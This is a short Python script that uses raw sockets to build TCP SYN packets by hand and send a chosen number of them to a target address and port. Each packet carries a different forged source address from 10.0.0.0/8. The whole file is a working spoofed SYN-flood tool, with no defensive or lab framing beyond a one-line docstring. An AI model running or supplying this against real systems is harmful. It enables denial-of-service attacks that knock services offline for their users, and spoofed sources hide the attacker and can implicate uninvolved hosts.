"""Sends the first packet of COUNT handshakes to ADDRESS PORT, each from another forged source of 10.0.0.0/8."""

import socket
import struct
import sys

address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
SYN = 0x02
WORDS = 5


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


target = socket.inet_aton(address)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(count):
    source = bytes([10, 1, number >> 8, number & 255])

    def segment(check):
        return struct.pack("!HHIIBBHHH", 1024 + number, port, number, 0, WORDS << 4, SYN, 8192, check, 0)

    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment(0)))
    whole = segment(checksum(pseudo + segment(0)))
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(whole), 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    raw.sendto(header + whole, (address, 0))
